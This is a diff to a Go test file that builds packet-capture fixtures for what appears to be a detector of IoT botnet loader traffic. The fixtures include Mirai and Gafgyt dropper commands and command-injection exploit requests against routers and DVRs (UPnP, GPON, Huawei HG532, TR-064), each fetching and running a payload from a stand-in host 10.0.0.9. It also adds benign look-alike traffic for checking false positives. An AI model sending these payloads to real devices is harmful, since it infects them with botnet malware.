@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/binary"
 	"flag"
+	"fmt"
 	"net"
 	"os"
 	"path/filepath"
@@ -292,14 +293,14 @@ func craftedFiles(t testing.TB) []craftedFile {
 		gafgyt := "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://10.0.0.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 10.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9; chmod 777 tftp2.sh; sh tftp2.sh\r\n"
 		body := "POST /picsdesc.xml HTTP/1.1\r\nHost: 10.0.0.5:80\r\nContent-Type: text/xml\r\n\r\n<NewInternalClient>`cd /tmp;busybox+tftp+10.0.0.9+-c+get+tftp1.sh;sh+tftp1.sh`</NewInternalClient>"
 		body2 := "GET /shell?cd+/tmp;busybox+tftp+-r+tftp2.sh+-g+10.0.0.9;sh+tftp2.sh HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"
-		add("loader-commands.pcap", en(
+		add("loader-commands.pcap", append(en(
 			tcpTo(t, infected, victim, 41001, 23, loader),
 			tcpTo(t, infected, victim, 41002, 2323, loader),
 			tcpTo(t, infected, victim, 41003, 23, gafgyt),
 			tcpTo(t, infected, victim, 41004, 2323, gafgyt),
 			tcpTo(t, infected, victim, 41005, 80, body),
 			tcpTo(t, infected, victim, 41006, 8080, body2),
-		)...)
+		), loaderForms(t)...)...)
 		// Legitimate: PXE, iPXE, bootloaders, kernels, phone and switch
 		// provisioning, router configs and firmware; an administrator
 		// typing a TFTP fetch into a router's telnet; ordinary HTTP.
@@ -317,6 +318,7 @@ func craftedFiles(t testing.TB) []craftedFile {
 			tcpTo(t, other, infected, 43003, 80, "GET /firmware/pxelinux.0 HTTP/1.1\r\nHost: boot.example\r\n\r\n"),
 		)...)
 		add("legit-boot.pcap", legit...)
+		add("legit-web.pcap", legitWeb(t)...)
 	}
 	// A pcapng with two interfaces of different link types.
 	files = append(files, craftedFile{name: "mixed.pcapng", ng: true, frames: []frame{
@@ -404,4 +406,63 @@ func tcpTo(t testing.TB, src, dst net.IP, sport, dport uint16, payload string) [
 	tcp := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), Seq: 1, Ack: 1, PSH: true, ACK: true, Window: 65535, DataOffset: 5}
 	tcp.SetNetworkLayerForChecksum(ip)
 	return ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload(payload))
+}
+
+// loaderForms are the loader command lines as forks and exploits send
+// them (packets 7 on of loader-commands.pcap): renamed droppers and bots,
+// prefixed Gafgyt scripts, the Mirai line in HTTP exploit request lines
+// and bodies (URL-encoded, ${IFS}, JSON, XML), telnet negotiation in
+// front of the command, and a fetch of a name nobody lists.
+func loaderForms(t testing.TB) []frame {
+	post := func(path, ctype, body string) string {
+		return "POST " + path + " HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: " + ctype + "\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body
+	}
+	return en(
+		// 7, 8: forks rename the dropper, or the bot too.
+		tcpTo(t, infected, victim, 41007, 23, "/bin/busybox tftp -g -l .d -r mirai.mpsl 10.0.0.9; /bin/busybox chmod 777 .d; /bin/busybox SORA\r\n"),
+		tcpTo(t, infected, victim, 41008, 2323, "/bin/busybox tftp -g -l 19ju3d -r sora.arm7 10.0.0.9; /bin/busybox chmod 777 19ju3d; /bin/busybox AK1K2\r\n"),
+		// 9: the Mirai line in a UPnP SOAP body (port 80).
+		tcpTo(t, infected, victim, 41009, 80, post("/picsdesc.xml", "text/xml",
+			`<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`+"`cd /tmp;/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9;./dvrHelper`"+`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>`)),
+		// 10: in a URL-encoded request line (port 8080).
+		tcpTo(t, infected, victim, 41010, 8080, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d&curpath=/&currentsetting.htm=1 HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"),
+		// 11: Gafgyt forks prefix their scripts.
+		tcpTo(t, infected, victim, 41011, 23, "cd /tmp || cd /run || cd /; wget http://10.0.0.9/axisbins.sh; chmod 777 axisbins.sh; sh axisbins.sh; tftp 10.0.0.9 -c get axistftp1.sh; chmod 777 axistftp1.sh; sh axistftp1.sh; tftp -r axistftp2.sh -g 10.0.0.9; chmod 777 axistftp2.sh; sh axistftp2.sh; rm -rf *\r\n"),
+		// 12: a prefixed script with ${IFS} for spaces in a form body.
+		tcpTo(t, infected, victim, 41012, 80, post("/GponForm/diag_Form?images/", "application/x-www-form-urlencoded",
+			"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}10.0.0.9;sh${IFS}ukloltftp2.sh`;&ipv=0")),
+		// 13: telnet option negotiation in front of the loader's line.
+		tcpTo(t, infected, victim, 41013, 23, "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"),
+		// 14: in a JSON body, the bot named by CPU only (port 8080).
+		tcpTo(t, infected, victim, 41014, 8080, post("/api/ping", "application/json", `{"host":"127.0.0.1;busybox tftp -g -r bot.sh4 -l /tmp/b 10.0.0.9;/tmp/b","count":1}`)),
+		// 15: the Huawei HG532 exploit (port 37215), $( ) around the fetch.
+		tcpTo(t, infected, victim, 41015, 37215, post("/ctrlt/DeviceUpgrade_1", "text/xml",
+			`<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox tftp -g -l /tmp/k -r okiru.m68k 10.0.0.9)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`)),
+		// 16: a fetch of a name no signature lists: weak.
+		tcpTo(t, infected, victim, 41016, 80, post("/boaform/formPing6", "application/x-www-form-urlencoded",
+			"pingAddr=%3bbusybox+tftp+-g+-r+swJaf+-l+/var/swJaf+10.0.0.9+69%3bcd+/var%3bchmod+0777+swJaf%3b./swJaf&wanif=65535&go=+Ping")),
+		// 17: Gafgyt's -g before the host, then -r (a Python scanner's line), port 80 request line.
+		tcpTo(t, infected, victim, 41017, 80, "GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;cd+/tmp;tftp+-g+10.0.0.9+-r+tftp1.sh;sh+tftp1.sh&password=x HTTP/1.1\r\n\r\n"),
+		// 18: the 2016 TR-064 variant (port 7547) fetches a file named 7,
+		// which no signature can list: weak.
+		tcpTo(t, infected, victim, 41018, 7547, post("/UD/act?1", "text/xml",
+			`<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`+"`cd /tmp;tftp -l 7 -r 7 -g 10.0.0.9;chmod a+x 7;./7`"+`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>`)),
+	)
+}
+
+// legitWeb is ordinary web and telnet traffic that names loader files or
+// the tftp client outside any fetch command: none of it is evidence.
+func legitWeb(t testing.TB) []frame {
+	return en(
+		tcpTo(t, other, infected, 44001, 80, "GET /bins/tftp1.sh HTTP/1.1\r\nHost: mirror.example\r\nUser-Agent: curl/8.5.0\r\n\r\n"),
+		tcpTo(t, other, infected, 44002, 8080, "GET /downloads/mirai.arm7 HTTP/1.1\r\nHost: research.example\r\n\r\n"),
+		tcpTo(t, other, infected, 44003, 80, "GET /search?q=tftp1.sh+tftp2.sh+axistftp1.sh+mirai.mips HTTP/1.1\r\nHost: search.example\r\n\r\n"),
+		tcpTo(t, other, infected, 44004, 80, "GET /docs/tftp.html HTTP/1.1\r\nHost: docs.example\r\nReferer: http://docs.example/tftp-howto?file=mirai.arm7\r\n\r\n"),
+		tcpTo(t, other, infected, 44005, 80, "POST /upload HTTP/1.1\r\nHost: files.example\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"axistftp1.sh\"\r\n\r\n#!/bin/sh\r\n--x--\r\n"),
+		tcpTo(t, other, infected, 44006, 80, "GET /cgi-bin/tftp?file=mirai.arm7&get=1 HTTP/1.1\r\nHost: router.example\r\n\r\n"),
+		tcpTo(t, other, infected, 44007, 23, "ls -l /tftpboot; cat /tftpboot/tftp1.sh | head\r\n"),
+		tcpTo(t, other, infected, 44008, 8080, "PUT /api/services HTTP/1.1\r\nHost: nas.example\r\nContent-Type: application/json\r\n\r\n{\"service\":\"tftp\",\"enabled\":true,\"root\":\"/srv/tftp\",\"file\":\"tftp1.sh\"}"),
+		tcpTo(t, other, infected, 44009, 80, "GET /wiki/index.php?title=tftp&action=edit&section=-r HTTP/1.1\r\nHost: wiki.example\r\n\r\n"),
+		tcpTo(t, other, infected, 44010, 80, "GET /dl/mirai%2Earm7?ref=tftp%20-g HTTP/1.1\r\nHost: x.example\r\n\r\n"),
+	)
 }
